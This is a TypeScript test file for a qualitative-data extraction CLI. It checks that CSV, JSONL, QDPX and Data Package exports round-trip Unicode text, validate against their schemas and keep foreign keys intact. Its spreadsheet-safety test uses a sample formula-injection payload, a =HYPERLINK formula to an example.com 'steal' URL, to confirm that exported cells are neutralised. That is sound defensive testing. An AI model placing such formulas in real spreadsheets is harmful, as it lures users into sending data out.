// The interchange formats on real data, through the built CLI (npm test
// builds first): the seeds plus fixtures/export (emoji and 𝑥, accented
// names, markup characters, a line starting with =HYPERLINK(...)).
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { Ajv } from "ajv";
import { parse as parseCsv } from "csv-parse/sync";
import { loadDataset, documentTexts } from "../src/export/dataset.js";
import { readQdpx } from "../src/export/qdpx-read.js";
import { datapackageDescriptor } from "../src/export/datapackage.js";
import { readDoc } from "../src/pipeline/process.js";
import { readTable } from "../src/dataset/read.js";
import { FIXTURES, HAS_XMLLINT, QDE_SCHEMA, ROOT, SEEDS, cli, tmp, xmllint } from "./export-helpers.js";
import { unzipSync } from "fflate";

const PROFILE = JSON.parse(readFileSync(join(ROOT, "src", "export", "profiles", "tabular-data-package.json"), "utf8"));

/** The vendored Tabular Data Package profile (JSON Schema draft 4; keywords ajv knows). */
function validateDescriptor(descriptor: unknown): string[] {
  const { $schema: _draft4, ...schema } = PROFILE;
  const ajv = new Ajv({ strict: false, validateFormats: false, allErrors: true });
  const validate = ajv.compile(schema);
  return validate(descriptor) ? [] : (validate.errors ?? []).map((e) => `${e.instancePath} ${e.message}`);
}

describe("extract --format csv,jsonl,qdpx,gexf,graphml on the seeds and the export fixtures", () => {
  let out: string;
  let data: string;
  beforeAll(() => {
    out = tmp();
    data = join(out, "data");
    const r = cli(["extract", SEEDS, FIXTURES, "--out", data, "--jobs", "2", "--format", "csv,jsonl,qdpx,gexf,graphml"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("sectormap.qdpx: ");
  });

  it("writes the exports into the dataset folder beside the tables and datapackage.json", () => {
    const files = readdirSync(data);
    for (const f of ["sectormap.qdpx", "sectormap.gexf", "sectormap.graphml", "datapackage.json", "manifest.json"]) expect(files).toContain(f);
  });

  it("rebuilds every document's text exactly as the text stage made it", async () => {
    const texts = documentTexts(loadDataset(data).segments);
    for (const file of readdirSync(FIXTURES).filter((f) => f.endsWith(".txt"))) {
      const doc = await readDoc({ absPath: join(FIXTURES, file), source: file, ext: "." + file.split(".").pop() });
      expect(texts.get(doc.docId), file).toBe(doc.text);
    }
    const unicode = [...texts.values()].find((t) => t.includes("Zoë Müller"))!;
    expect(unicode).toMatch(/😀/u);
    expect(unicode).toContain("𝑥");
  });

  it.skipIf(!HAS_XMLLINT)("gives a project.qde valid against the REFI-QDA schema", () => {
    const qde = join(out, "project.qde");
    writeFileSync(qde, unzipSync(readFileSync(join(data, "sectormap.qdpx")))["project.qde"]);
    const result = xmllint(qde, QDE_SCHEMA);
    expect(result.messages).toContain("validates");
    expect(result.ok).toBe(true);
  });

  it("finds every theme coding, recommendation and mention at its words in the .qdpx", () => {
    const project = readQdpx(readFileSync(join(data, "sectormap.qdpx")));
    const dataset = loadDataset(data);
    const texts = documentTexts(dataset.segments);
    const sources = new Map(project.sources.map((s) => [s.name, s]));
    expect(project.sources).toHaveLength(dataset.documents.filter((d) => texts.has(String(d.doc_id))).length);
    for (const s of project.sources) expect(s.path).toMatch(/^sources\/[0-9a-f-]{36}\.txt$/);
    // selection text -> names of codes applied there, per source
    const index = new Map<string, Map<string, Set<string>>>();
    for (const s of project.sources) {
      const m = new Map<string, Set<string>>();
      for (const sel of s.selections) {
        const key = `${sel.text}`;
        const names = m.get(key) ?? m.set(key, new Set()).get(key)!;
        sel.codes.forEach((c) => names.add([...c.path, c.name].join("/")));
      }
      index.set(s.name, m);
    }
    const codesAt = (row: Record<string, string | number>) => {
      const text = texts.get(String(row.doc_id))!.slice(Number(row.start), Number(row.end));
      expect(sources.get(String(row.source))!.text.includes(text)).toBe(true);
      return [...(index.get(String(row.source))!.get(text) ?? [])];
    };
    let n = 0;
    for (const c of dataset.codings) {
      expect(codesAt(c).some((p) => p.split("/").pop()!.split(" ")[0] === c.theme), String(c.coding_id)).toBe(true);
      n++;
    }
    for (const r of dataset.recommendations) {
      expect(codesAt(r), String(r.rec_id)).toEqual(expect.arrayContaining([`Recommendations/Kind/${r.kind}`, `Recommendations/Strength/${r.strength}`]));
      n++;
    }
    const actors = new Map(dataset.actors.map((a) => [String(a.actor_id), a]));
    for (const m of dataset.mentions) {
      const a = actors.get(String(m.actor_id))!;
      expect(codesAt(m).some((p) => p.startsWith(`Actors/${a.type}/${a.name}`)), String(m.mention_id)).toBe(true);
      n++;
    }
    expect(n).toBeGreaterThan(1000);
  });

  it("places selections after emoji and 𝑥 by code points", () => {
    const project = readQdpx(readFileSync(join(data, "sectormap.qdpx")));
    const source = project.sources.find((s) => s.name === "unicode.txt")!;
    const late = source.selections.filter((s) => s.text.includes("UNHCR should"));
    expect(late.length).toBeGreaterThan(0);
    for (const sel of late) {
      const utf16 = source.text.indexOf(sel.text);
      expect(sel.startPosition).toBe(Array.from(source.text.slice(0, utf16)).length);
      expect(sel.startPosition).toBeLessThan(utf16);
    }
  });

  it("gives the same .qdpx bytes when exported again", () => {
    const again = join(out, "again.qdpx");
    expect(cli(["export", data, "--to", "qdpx", "--out", again, "--quiet"]).code).toBe(0);
    expect(readFileSync(again).equals(readFileSync(join(data, "sectormap.qdpx")))).toBe(true);
  });

  it("describes every table and every CSV column in a datapackage.json valid against the Tabular Data Package profile", () => {
    const descriptor = JSON.parse(readFileSync(join(data, "datapackage.json"), "utf8"));
    expect(validateDescriptor(descriptor)).toEqual([]);
    const csvFiles = readdirSync(data).filter((f) => f.endsWith(".csv"));
    expect(descriptor.resources.map((r: { path: string }) => r.path).sort()).toEqual(csvFiles.sort());
    for (const resource of descriptor.resources) {
      const header = parseCsv(readFileSync(join(data, resource.path), "utf8"), { to_line: 1 })[0];
      expect(resource.schema.fields.map((f: { name: string }) => f.name), resource.name).toEqual(header);
      for (const field of resource.schema.fields) expect(field.description, `${resource.name}.${field.name}`).not.toBe("");
      for (const key of resource.schema.primaryKey) expect(header).toContain(key);
    }
    const mentions = descriptor.resources.find((r: { name: string }) => r.name === "mentions");
    expect(mentions.schema.foreignKeys).toEqual(expect.arrayContaining([
      { fields: "actor_id", reference: { resource: "actors", fields: "actor_id" } },
      { fields: "doc_id", reference: { resource: "documents", fields: "doc_id" } },
      { fields: "segment_id", reference: { resource: "segments", fields: "segment_id" } },
    ]));
  });

  it("keeps the foreign keys true: every referenced id exists", () => {
    const descriptor = JSON.parse(readFileSync(join(data, "datapackage.json"), "utf8"));
    const rows = (name: string) => parseCsv(readFileSync(join(data, `${name}.csv`), "utf8"), { columns: true }) as Record<string, string>[];
    for (const resource of descriptor.resources) {
      for (const fk of resource.schema.foreignKeys ?? []) {
        const keys = new Set(rows(fk.reference.resource).map((r) => r[fk.reference.fields]));
        const missing = rows(resource.name).map((r) => r[fk.fields]).filter((v) => v !== "" && !keys.has(v));
        expect(missing, `${resource.name}.${fk.fields} -> ${fk.reference.resource}`).toEqual([]);
      }
      const seen = new Set<string>();
      for (const r of rows(resource.name)) {
        const key = resource.schema.primaryKey.map((k: string) => r[k]).join("\u0000");
        expect(seen.has(key), `${resource.name}: duplicate primary key ${key}`).toBe(false);
        seen.add(key);
      }
    }
  });
});

describe("datapackage descriptor", () => {
  it("is valid for a JSONL-only dataset and rejects a broken one", () => {
    type Descriptor = { resources: Array<{ path: string; schema: { fields: Array<{ type: string }>; foreignKeys?: unknown[] } }> };
    const jsonl = datapackageDescriptor({ tables: ["documents", "segments"], formats: ["jsonl"] }) as unknown as Descriptor;
    expect(validateDescriptor(jsonl)).toEqual([]);
    expect(jsonl.resources.map((r) => r.path)).toEqual(["documents.jsonl", "segments.jsonl"]);
    expect(jsonl.resources[1].schema.foreignKeys).toEqual([{ fields: "doc_id", reference: { resource: "documents", fields: "doc_id" } }]);
    // the validator does catch mistakes
    const broken = structuredClone(jsonl);
    broken.resources[0].schema.fields[0].type = "text";
    expect(validateDescriptor(broken).length).toBeGreaterThan(0);
  });

  it("sectormap export --to datapackage writes paths relative to the descriptor", () => {
    const out = tmp();
    const data = join(out, "data");
    expect(cli(["extract", join(FIXTURES, "formula.txt"), "--out", data, "--jobs", "1", "--quiet", "--format", "jsonl"]).code).toBe(0);
    const file = join(out, "elsewhere", "dp.json");
    expect(cli(["export", data, "--to", "datapackage", "--out", file, "--quiet"]).code).toBe(0);
    const descriptor = JSON.parse(readFileSync(file, "utf8"));
    expect(validateDescriptor(descriptor)).toEqual([]);
    expect(descriptor.resources[0].path).toBe("../data/documents.jsonl");
  });
});

describe("a dataset coded with another codebook", () => {
  it("exports that codebook's codes, labels and descriptions, found through the manifest", () => {
    const out = tmp();
    const data = join(out, "data");
    const docs = ["unicode.txt", "markup.txt"].map((f) => join(FIXTURES, f));
    expect(cli(["extract", ...docs, "--out", data, "--jobs", "1", "--quiet", "--codebook", "fixtures/export/codebook.yaml", "--format", "jsonl,qdpx"]).code).toBe(0);
    const project = readQdpx(readFileSync(join(data, "sectormap.qdpx")));
    const themes = [...project.codes.values()].filter((c) => c.path[0]?.startsWith("Themes"));
    expect(themes.map((c) => c.name).sort()).toEqual(["X01 Data and numbers", "X02 Rights of migrants"]);
    expect(themes.every((c) => c.path[0] === "Themes: other")).toBe(true); // in no family of qdpx-codebook.yaml
    expect(themes.find((c) => c.name.startsWith("X02"))!.description).toBe("Protection and rights of migrants.");
    const coded = project.sources.flatMap((s) => s.selections.filter((sel) => sel.codes.some((c) => c.name.startsWith("X02"))).map((sel) => sel.text));
    expect(coded.some((t) => /protect/.test(t))).toBe(true);
  });
});

describe("spreadsheet safety", () => {
  it("neutralises a line starting with =HYPERLINK(...) and writes a BOM with --excel", () => {
    const data = join(tmp(), "data");
    expect(cli(["extract", join(FIXTURES, "formula.txt"), "--out", data, "--jobs", "1", "--quiet", "--excel", "--format", "csv"]).code).toBe(0);
    const raw = readFileSync(join(data, "segments.csv"), "utf8");
    expect(raw.startsWith("\uFEFFsegment_id,")).toBe(true);
    const cells = (parseCsv(raw, { bom: true, columns: true }) as Record<string, string>[]).map((r) => r.text);
    expect(cells).toContain(`'=HYPERLINK("http://example.com/steal?data=1","Click for the full report")`);
    for (const lead of ["+44 20", "-1 is", "@SUM("]) {
      const cell = cells.find((c) => c.includes(lead))!;
      expect(cell.startsWith(`'${lead}`), cell).toBe(true);
    }
    // no cell of any table may start a formula
    for (const f of readdirSync(data).filter((f) => f.endsWith(".csv"))) {
      const rows = parseCsv(readFileSync(join(data, f), "utf8"), { bom: true }) as string[][];
      for (const row of rows) for (const cell of row) expect(cell, `${f}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // reading the dataset back restores the text
    expect(readTable(data, "segments").map((r) => r.text)).toContain(`=HYPERLINK("http://example.com/steal?data=1","Click for the full report")`);
    const descriptor = JSON.parse(readFileSync(join(data, "datapackage.json"), "utf8"));
    expect(descriptor.resources[0].encoding).toBeUndefined(); // BOM: left to detection
  });
});
